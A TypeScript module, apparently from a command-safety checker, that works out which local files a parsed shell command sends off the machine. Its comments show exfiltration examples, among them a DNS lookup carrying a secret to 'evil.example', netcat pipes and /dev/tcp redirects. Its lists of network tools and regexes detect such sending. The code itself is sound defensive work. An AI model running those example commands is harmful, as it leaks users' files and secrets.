// What leaves the machine through a command, read off its parsed words: the files a network
// program sends (curl -F x=@f, scp f host:, nc host 9 < f) and the files whose bytes reach one
// through a pipe or a substitution (cat f | nc host 9, curl -d "$(cat f)"). Pure functions.
import type { ShellCommand, ShellWord } from '../runtime/shell/types.ts';
import {
  argumentsOf,
  clusteredValues,
  inlineCode,
  operands,
  optionValues,
} from './command-effects.ts';
import { COPY_OPTIONS, operandWords } from './network-words.ts';

/** Programs that send their arguments, stdin or named files to another machine. */
export const NETWORK_PROGRAMS: ReadonlySet<string> = new Set([
  'curl',
  'wget',
  'http',
  'https',
  'xh',
  'aria2c',
  'nc',
  'ncat',
  'netcat',
  'socat',
  'telnet',
  'ssh',
  'scp',
  'sftp',
  'rsync',
  'ftp',
  'lftp',
  'tftp',
  'openssl',
  'websocat',
  'mail',
  'mailx',
  'sendmail',
  'mutt',
  'git',
  'gh',
  // A lookup carries its name to the resolver: dig $(cat secret).evil.example.
  'dig',
  'nslookup',
  'host',
  'ping',
]);

/** `host:path`, `user@host:path`, `rsync://...`: the remote side of scp, rsync or sftp. */
export function isRemoteSpec(text: string): boolean {
  if (/^(?:rsync|scp|sftp|ssh):\/\//.test(text)) return true;
  const colon = text.indexOf(':');
  const slash = text.indexOf('/');
  return colon > 0 && (slash < 0 || colon < slash);
}

/** One word naming local data a command sends: whole (a file) or after an `@`/`<` (curl's forms). */
export interface UploadWord {
  readonly word: ShellWord;
  readonly atFile: boolean;
}

function plain(words: readonly ShellWord[]): UploadWord[] {
  return words.map((word) => ({ word, atFile: false }));
}

/** Words naming local files a command sends: curl -d @f, -F x=@f, -T f, wget --post-file=f, scp f host:. */
export function uploadWords(command: ShellCommand): UploadWord[] {
  const args = command.args;
  switch (command.binary) {
    case 'curl':
      // Short options in any cluster (`-sT f`, `-fsSd @f`).
      return [
        ...clusteredValues(args, 'd', [
          '--data',
          '--data-binary',
          '--data-ascii',
          '--data-urlencode',
          '--json',
        ]),
        ...clusteredValues(args, 'F', ['--form']),
      ]
        .map((word) => ({ word, atFile: true }))
        .concat(plain(clusteredValues(args, 'T', ['--upload-file'])));
    case 'wget':
      return plain(optionValues(args, [], ['--post-file', '--body-file']));
    case 'http':
    case 'https':
    case 'xh':
      // HTTPie's request items: `field@file` (a file upload), `field=@file`, `field:=@file`.
      return operands(args)
        .filter((w) => /^[^=@:/]*(?::?=)?@/.test(w.text))
        .map((word) => ({ word, atFile: true }));
    case 'gh':
      return plain(ghSentFiles(args));
    case 'mail':
    case 'mailx':
    case 's-nail':
    case 'mutt':
    case 'neomutt':
      // Attachments.
      return plain(optionValues(args, ['-A', '-a'], ['--attach']));
    case 'scp':
    case 'rsync':
    case 'sftp': {
      // Every local operand before a remote destination is sent there.
      const ops = operandWords(args, COPY_OPTIONS[command.binary]);
      const last = ops[ops.length - 1];
      if (last === undefined || !isRemoteSpec(last.text)) return [];
      return plain(ops.slice(0, -1).filter((w) => !isRemoteSpec(w.text)));
    }
    default:
      return [];
  }
}

/** Files gh sends to GitHub: a gist's files, a release's assets, a body read from a file. */
function ghSentFiles(args: readonly ShellWord[]): ShellWord[] {
  const [group, verb] = operands(args).map((w) => w.text);
  const bodies = optionValues(args, ['-F'], ['--body-file', '--notes-file']);
  const ops = operands(args).slice(2);
  if (group === 'gist' && (verb === 'create' || verb === 'new' || verb === 'edit'))
    return [...bodies, ...ops];
  // gh release upload TAG FILE…; gh release create TAG FILE…
  if (group === 'release' && (verb === 'upload' || verb === 'create'))
    return [...bodies, ...ops.slice(1)];
  return bodies;
}

/** The file named inside a curl data value: `@file`, `name@file`, `name=<file` (`;type=` cut). */
export function dataFileOf(value: string): string | null {
  const at = /^[^@<]*[@<]/.exec(value);
  if (at === null) return null;
  return value.slice(at[0].length).split(';')[0] as string;
}

/** Files a command reads through `<`. */
function stdinFiles(command: ShellCommand): ShellWord[] {
  return command.redirects.flatMap((r) => (r.op === '<' && r.target !== null ? [r.target] : []));
}

const SOCKET = /^\/dev\/(?:tcp|udp)\//;

function opensSocket(command: ShellCommand): boolean {
  return command.redirects.some((r) => r.target !== null && SOCKET.test(r.target.text));
}

/**
 * Bash itself sends what the command prints: its output goes to /dev/tcp or /dev/udp (`cat f >
 * /dev/tcp/h/p`), or onto a descriptor past stderr (`>&3`, `>&$fd`) while the line opens a socket
 * (`exec 3<>/dev/tcp/h/p; cat f >&3`, `{ cat f; } 3>/dev/tcp/h/p >&3`).
 */
function printsToSocket(command: ShellCommand, commands: readonly ShellCommand[]): boolean {
  if (command.redirects.some((r) => r.writes && r.target !== null && SOCKET.test(r.target.text)))
    return true;
  // Any command of the line counts: the grammar misreads `exec {fd}<>…` as a command `{fd}`.
  return (
    commands.some(opensSocket) &&
    command.redirects.some(
      (r) => r.op === '>&' && r.target !== null && !/^[012-]$/.test(r.target.text),
    )
  );
}

/**
 * Words naming files whose bytes a network program sends: what it reads through `<`, and the
 * files read by the commands that feed it, earlier stages of its pipeline and the substitutions
 * in its words (`nc h 9 < f`, `cat f | nc h 9`, `curl -d "$(cat f)"`). Its own operands are
 * not among them: `ssh host ls /var/log` names a remote path.
 */
export function networkFedWords(
  command: ShellCommand,
  commands: readonly ShellCommand[],
): ShellWord[] {
  const viaDevice = printsToSocket(command, commands);
  if (!viaDevice && (command.binary === null || !NETWORK_PROGRAMS.has(command.binary))) return [];
  const index = commands.indexOf(command);
  const feeders = commands.filter(
    (o) =>
      (o.pipeline.id === command.pipeline.id && o.pipeline.stage < command.pipeline.stage) ||
      (o.parent === index && (o.origin === 'substitution' || o.origin === 'process-substitution')),
  );
  return [
    ...(viaDevice ? operands(command.args) : []),
    ...stdinFiles(command),
    ...feeders.flatMap((o) => [...operands(o.args), ...stdinFiles(o)]),
  ];
}

// Inline code that sends bytes to another machine: an HTTP body (requests/httpx/axios .post,
// urlopen(url, data) or data=…, fetch with a body, Net::HTTP.post, HTTP::Tiny, LWP, curl's POSTFIELDS) or
// a socket, FTP or mail connection.
const INLINE_SENDS =
  /\b(?:requests|httpx|axios|session)\.(?:post|put|patch)\b|(?:urlopen|Request)\s*\([^)]*(?:\bdata\s*=|,)|\bbody\s*:|\.sendall?\s*\(|\bsendto\s*\(|socket\.socket|\bcreate_connection\b|Net::HTTP|HTTP::Tiny|LWP::|IO::Socket|TCPSocket|\bnet\.connect|https?\.request\s*\(|CURLOPT_POSTFIELDS|fsockopen|ftplib|smtplib|paramiko/;
// Inline code that reads a file's bytes.
const INLINE_READS =
  /\bopen\s*\(|readFileSync|readFile\s*\(|createReadStream|File\.(?:read|open|binread)|IO\.read|file_get_contents|fopen\s*\(|read_(?:text|bytes)\s*\(|\bslurp\b|<\s*\$?\w*\s*>/;
// Where the code names the home.
const HOME_CALL =
  /(?:homedir\(\)|Path\.home\(\)|expanduser\(\s*['"]~['"]\s*\)|Dir\.home|\$ENV\{HOME\}|getenv\(\s*['"]HOME['"]\s*\)|environ(?:\.get\(|\[)\s*['"]HOME['"]\s*[\])]?|process\.env\.HOME)/;
// The home joined to a string: that string is a path below it.
const HOME_JOIN = new RegExp(`${HOME_CALL.source}\\s*(?:\\+|\\.|,|\\/)\\s*(['"])`, 'g');
// Code that lists a tree: what it sends are names it finds, not names it spells.
const INLINE_LISTS =
  /\b(?:walk|glob|rglob|iglob|listdir|scandir|readdir(?:Sync)?|iterdir|opendir|Find)\b|Dir(?:\[|\.(?:glob|children|entries|each_child))/;
const STRING = /(['"])((?:\\.|(?!\1)[^\\])*)\1/g;

/**
 * Files inline interpreter code sends (python -c, node -e, a here-document …): when the code both
 * reads a file and sends bytes, every path-like string in it, a string joined to the home read as
 * below it (`homedir() + '/.bashrc'`, `os.path.join(expanduser('~'), '.bashrc')`).
 */
export function inlineUploadWords(command: ShellCommand): ShellWord[] {
  const code = inlineCode(command);
  if (code === null || !INLINE_SENDS.test(code) || !INLINE_READS.test(code)) return [];
  const marked = code.replace(HOME_JOIN, (_m, quote: string) => `${quote}~/`);
  // The words after the code are its arguments (sys.argv, process.argv, @ARGV): files it may send.
  const out: ShellWord[] = operands(argumentsOf(command));
  // A home named bare in code that lists a tree: what it finds there can be any file of it.
  if (HOME_CALL.test(marked) && INLINE_LISTS.test(marked)) out.push(textWord('~'));
  for (const [, , text] of marked.matchAll(STRING)) {
    if (text !== undefined && /^[~/.]/.test(text) && !/^\.+$/.test(text)) out.push(textWord(text));
  }
  return out;
}

function textWord(text: string): ShellWord {
  return { text, literal: true, glob: false, parts: [{ kind: 'text', text }] };
}
